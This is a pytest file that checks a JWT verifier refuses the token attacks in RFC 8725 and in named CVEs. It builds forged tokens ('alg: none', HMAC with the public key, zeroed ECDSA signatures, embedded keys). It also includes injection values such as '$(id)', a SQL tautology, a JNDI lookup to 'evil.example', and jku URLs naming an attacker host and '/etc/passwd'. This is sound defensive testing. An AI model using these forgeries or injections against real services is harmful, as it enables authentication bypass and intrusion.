"""The attacks of RFC 8725 and of libraries' published advisories, one test named after each."""

import base64
import hashlib
import hmac
import json
from typing import Any

import pytest
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature

from sidecar.errors import (
    AlgorithmNotAllowed,
    BadSignature,
    TokenError,
    TokenExpired,
    TokenMalformed,
    TokenTooLarge,
    UnknownKey,
    WrongAudience,
    WrongIssuer,
)
from sidecar.tokens.keyring import Keyring
from sidecar.tokens.parse import read_keys
from sidecar.tokens.settings import AuthSettings
from sidecar.tokens.verify import Verifier
from tests.tokens.minting import CLAIMS, NOW, b64, key, mint, pem, private_key, sign

RSA = Keyring([key("rsa")])
EC = Keyring([key("ec", "ES256")])
MIXED = Keyring([key("rsa"), key("ec", "ES256"), key("ed", "Ed25519")])
PAYLOAD = json.dumps(CLAIMS).encode()


def refusal(token: bytes, ring: Keyring = MIXED, **settings: Any) -> TokenError:
    with pytest.raises(TokenError) as caught:
        Verifier(AuthSettings(**settings)).verify(token, ring, NOW)
    return caught.value


def unsigned(header: dict[str, Any], signature: bytes = b"", payload: bytes = PAYLOAD) -> bytes:
    return b".".join((b64(json.dumps(header).encode()), b64(payload), b64(signature)))


# --- algorithms: RFC 8725, sections 2.1, 3.1 and 3.2 ---------------------------------------


@pytest.mark.parametrize("name", ["none", "None", "NONE", "nOnE", "", " none", "none\0"])
@pytest.mark.parametrize("signature", [b"", b"x", bytes(256)])
def test_rfc8725_2_1_alg_none_in_any_spelling(name: str, signature: bytes) -> None:
    assert isinstance(refusal(unsigned({"alg": name}, signature)), AlgorithmNotAllowed)


def test_rfc8725_2_1_alg_none_cannot_be_configured() -> None:
    error = refusal(unsigned({"alg": "none"}), algorithms=("none", "RS256"))
    assert isinstance(error, AlgorithmNotAllowed)


@pytest.mark.parametrize("name", ["HS256", "HS384", "HS512"])
@pytest.mark.parametrize("kid", [None, "rsa"])
def test_cve_2015_9235_hmac_with_the_public_key_as_secret(name: str, kid: str | None) -> None:
    digest = getattr(hashlib, f"sha{name[2:]}")
    header = {"alg": name} | ({"kid": kid} if kid else {})
    for secret in (pem(), pem().strip(), pem().replace(b"\n", b"\r\n")):
        signing_input = unsigned(header).rpartition(b".")[0]
        signature = hmac.new(secret, signing_input, digest).digest()
        token = signing_input + b"." + b64(signature)
        assert isinstance(refusal(token), AlgorithmNotAllowed)
        assert isinstance(refusal(token, algorithms=(name, "RS256")), AlgorithmNotAllowed)


def test_cve_2017_11424_and_cve_2022_29217_other_forms_of_a_public_key_are_no_secret() -> None:
    for secret in (b"ssh-rsa AAAAB3NzaC1yc2E", b"-----BEGIN RSA PUBLIC KEY-----", b""):
        signing_input = unsigned({"alg": "HS256"}).rpartition(b".")[0]
        token = signing_input + b"." + b64(hmac.digest(secret, signing_input, "sha256"))
        assert isinstance(refusal(token), AlgorithmNotAllowed)


@pytest.mark.parametrize(
    "name",
    [
        "rs256",
        "RS1",
        "RS257",
        "ES256K",
        "ES521",
        "RSA-OAEP",
        "dir",
        "RS256\0",
        "RS\uff12\uff15\uff16",
    ],
)
def test_rfc8725_3_1_algorithms_are_exact_names_of_a_closed_set(name: str) -> None:
    signed = sign(json.dumps({"alg": name}).encode(), PAYLOAD)
    assert isinstance(refusal(signed), AlgorithmNotAllowed)


def test_rfc8725_3_1_a_key_is_used_with_the_algorithms_of_its_type_only() -> None:
    for ring, algorithm in ((RSA, "ES256"), (EC, "RS256")):
        assert isinstance(refusal(mint(algorithm=algorithm), ring), AlgorithmNotAllowed)
    ring = Keyring([key("ec", "ES384")])
    assert isinstance(refusal(mint(algorithm="ES256"), ring), AlgorithmNotAllowed)


def test_key_confusion_a_signature_of_one_scheme_is_none_of_another() -> None:
    signature = mint(algorithm="RS256").rpartition(b".")[2]
    for other in ("PS256", "RS384", "RS512"):
        header = b64(json.dumps({"alg": other, "typ": "JWT"}).encode())
        token = b".".join((header, b64(PAYLOAD), signature))
        assert isinstance(refusal(token), BadSignature)


def test_kid_confusion_the_kid_of_a_key_of_another_type_does_not_help() -> None:
    assert isinstance(refusal(mint(algorithm="RS256", kid="ec")), AlgorithmNotAllowed)
    assert isinstance(refusal(mint(algorithm="ES256", kid="rsa")), AlgorithmNotAllowed)


# --- signatures: RFC 8725, sections 3.3 and 3.4 --------------------------------------------


@pytest.mark.parametrize("signature", [b"", b"\0", bytes(63), bytes(64), bytes(65), bytes(128)])
def test_cve_2022_21449_an_ecdsa_signature_of_zeros(signature: bytes) -> None:
    assert isinstance(refusal(unsigned({"alg": "ES256"}, signature)), BadSignature)


def test_cve_2022_21449_ecdsa_numbers_at_and_beyond_the_order_of_the_curve() -> None:
    order = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
    for r in (0, 1, order, order + 1, 2**256 - 1):
        for s in (0, 1, order, 2**256 - 1):
            signature = r.to_bytes(32, "big") + s.to_bytes(32, "big")
            assert isinstance(refusal(unsigned({"alg": "ES256"}, signature)), BadSignature)


def test_an_ecdsa_signature_in_der_is_none() -> None:
    signing_input = unsigned({"alg": "ES256"}).rpartition(b".")[0]
    der = private_key("ES256").sign(signing_input, ec.ECDSA(hashes.SHA256()))
    assert isinstance(refusal(signing_input + b"." + b64(der)), BadSignature)
    r, s = decode_dss_signature(der)
    raw = r.to_bytes(32, "big") + s.to_bytes(32, "big")
    assert Verifier(AuthSettings()).verify(signing_input + b"." + b64(raw), MIXED, NOW)
    for filled in (b"\0" + raw[:32] + b"\0" + raw[32:], raw[:32] + b"\0" + raw[32:]):
        assert isinstance(refusal(signing_input + b"." + b64(filled)), BadSignature)


@pytest.mark.parametrize("length", [0, 1, 255, 256, 257, 512])
def test_cve_2006_4339_an_rsa_signature_of_any_other_form(length: int) -> None:
    for byte in (b"\0", b"\xff", b"\x01"):
        assert isinstance(refusal(unsigned({"alg": "RS256"}, byte * length)), BadSignature)


@pytest.mark.parametrize("length", [0, 32, 63, 64, 65, 114])
def test_an_edwards_signature_of_zeros_or_another_length(length: int) -> None:
    assert isinstance(refusal(unsigned({"alg": "EdDSA"}, bytes(length))), BadSignature)


def test_cve_2016_10555_a_signature_that_is_left_out() -> None:
    header, payload, _ = mint().split(b".")
    assert isinstance(refusal(header + b"." + payload), TokenMalformed)
    assert isinstance(refusal(header + b"." + payload + b"."), BadSignature)


def test_a_signature_of_other_claims_does_not_carry_over() -> None:
    header, _, signature = mint().split(b".")
    payload = b64(json.dumps({**CLAIMS, "role": "admin"}).encode())
    assert isinstance(refusal(b".".join((header, payload, signature))), BadSignature)


# --- keys that the token brings: RFC 8725, section 3.10 ------------------------------------


def _own_key() -> dict[str, Any]:
    numbers = private_key("RS256", 9).public_key().public_numbers()
    modulus = numbers.n.to_bytes(256, "big")
    return {"kty": "RSA", "n": b64(modulus).decode(), "e": "AQAB", "kid": "evil"}


@pytest.mark.parametrize(
    "header",
    [
        {"jwk": _own_key()},
        {"jwk": _own_key(), "kid": "rsa"},
        {"jku": "https://evil.example/jwks.json"},
        {"jku": "file:///etc/passwd"},
        {"x5u": "https://evil.example/cert.pem"},
        {"x5c": ["MIIB"]},
        {"x5t": "AAAA"},
    ],
)
def test_cve_2018_0114_a_key_in_the_token_is_not_believed(header: dict[str, Any]) -> None:
    assert isinstance(refusal(mint(number=9, **header)), BadSignature)
    assert Verifier(AuthSettings()).verify(mint(number=0, **header), MIXED, NOW)


@pytest.mark.parametrize(
    "kid",
    [
        "../../../../dev/null",
        "/dev/null",
        "rsa\0",
        "rsa/../rsa",
        "' OR '1'='1",
        "$(id)",
        "${jndi:ldap://evil.example/a}",
        "",
        "RSA",
        " rsa",
        "x" * 4000,
    ],
)
def test_rfc8725_3_10_a_kid_is_a_name_and_nothing_else(kid: str) -> None:
    error = refusal(mint(kid=kid))
    assert isinstance(error, UnknownKey)
    assert not kid or kid not in str(error)


def test_cve_2022_23529_a_key_that_is_a_secret_never_reaches_the_ring() -> None:
    secret = b'{"kty":"oct","k":"' + b64(b"secret") + b'"}'
    assert read_keys(secret, stem="s", source="s").keys == ()


# --- form: RFC 8725, sections 2.4, 2.6 and 3.7 ---------------------------------------------


def test_rfc8725_2_4_an_encrypted_token_is_not_a_signed_one() -> None:
    header = b64(b'{"alg":"dir","enc":"A256GCM","zip":"DEF"}')
    assert isinstance(refusal(header + b"..aaaa.bbbb.cccc"), TokenMalformed)


def test_cve_2024_33664_a_small_token_cannot_unfold_into_a_large_one() -> None:
    token = sign(b'{"alg":"RS256","zip":"DEF"}', b"\x78\x9c" + bytes(1000))
    assert isinstance(refusal(token), TokenMalformed)


def test_rfc8725_3_7_other_encodings_than_utf8() -> None:
    for encoding in ("utf-16", "utf-16-le", "utf-32", "utf-8-sig"):
        token = sign(b'{"alg":"RS256"}', json.dumps(CLAIMS).encode(encoding))
        assert isinstance(refusal(token), TokenMalformed)


def test_a_member_that_is_duplicated_with_another_spelling_of_its_name() -> None:
    token = sign(b'{"alg":"RS256","\\u0061lg":"none"}', PAYLOAD)
    assert isinstance(refusal(token), TokenMalformed)


def test_cve_2025_53864_nested_json_neither_crashes_nor_stalls() -> None:
    for depth in (17, 100, 3000):
        deep = b'{"alg":"RS256","x":' + b'{"a":' * depth + b"1" + b"}" * depth + b"}"
        assert isinstance(refusal(sign(deep, PAYLOAD), max_token_bytes=1 << 20), TokenMalformed)
        token = sign(b'{"alg":"RS256"}', deep)
        assert isinstance(refusal(token, max_token_bytes=1 << 20), TokenMalformed)


def test_cve_2025_61152_a_token_in_json_serialization_is_malformed() -> None:
    header, payload, signature = mint().decode().split(".")
    document = {"payload": payload, "protected": header, "signature": signature}
    assert isinstance(refusal(json.dumps(document).encode()), TokenMalformed)


def test_cve_2025_59420_critical_extensions_are_not_ignored() -> None:
    for name in ("exp", "b64", "http://example.invalid/UNDEFINED", "bork", "alg"):
        header = {"alg": "RS256", "crit": [name], name: "RS256" if name == "alg" else True}
        token = sign(json.dumps(header).encode(), PAYLOAD)
        assert isinstance(refusal(token), TokenMalformed)


def test_cve_2024_21643_rfc7797_an_unencoded_payload_is_not_verified() -> None:
    token = sign(b'{"alg":"RS256","b64":false,"crit":["b64"]}', PAYLOAD)
    assert isinstance(refusal(token), TokenMalformed)
    assert isinstance(refusal(sign(b'{"alg":"RS256","b64":0}', PAYLOAD)), TokenMalformed)


def test_cve_2025_30204_many_dots_are_no_parts_worth_counting() -> None:
    for count in (3, 8000):
        assert isinstance(refusal(b"." * count), TokenMalformed)
    assert isinstance(refusal(b"." * 10_000_000), TokenTooLarge)


def test_a_respelled_token_is_not_a_second_token() -> None:
    token = mint()
    for respelled in (token + b"=", token.replace(b".", b"=.", 1), token + b"\n", token + b"AA"):
        assert isinstance(refusal(respelled), TokenMalformed | BadSignature)


# --- claims: RFC 8725, sections 3.8 to 3.12 ------------------------------------------------


@pytest.mark.parametrize("issuer", ["acb", "users", "users-backend/", "users-backend\0"])
def test_cve_2024_53861_an_issuer_is_compared_whole(issuer: str) -> None:
    token = mint({**CLAIMS, "iss": issuer})
    assert isinstance(refusal(token, issuer=("users-backend",)), WrongIssuer)


@pytest.mark.parametrize("audience", ["", "t", "thought", ["thoughts "], [""], "thoughts,other"])
def test_cve_2020_26160_an_audience_is_compared_whole(audience: object) -> None:
    token = mint({**CLAIMS, "aud": audience})
    assert isinstance(refusal(token, audience=("thoughts",)), WrongAudience)


def test_rfc8725_3_12_a_token_of_another_kind_is_told_apart_by_issuer_and_audience() -> None:
    token = mint({**CLAIMS, "iss": "users-backend", "aud": "other-service"})
    error = refusal(token, issuer=("users-backend",), audience=("thoughts",))
    assert isinstance(error, WrongAudience)


def test_an_exp_of_zero_is_expired_and_not_absent() -> None:
    assert isinstance(refusal(mint({**CLAIMS, "exp": 0})), TokenExpired)


def test_no_reason_quotes_the_token() -> None:
    secret = "s3cr3t-value"
    tokens = [
        mint({**CLAIMS, "exp": secret}),
        mint({**CLAIMS, "aud": 7, "x": secret}),
        mint(kid=secret),
        mint(typ=7, x=secret),
        sign(b'{"alg":"' + secret.encode() + b'"}', PAYLOAD),
        base64.urlsafe_b64encode(secret.encode()),
    ]
    for token in tokens:
        error = refusal(token, audience=("thoughts",))
        assert secret not in f"{error} {error!r} {error.detail}"
        assert error.__cause__ is None
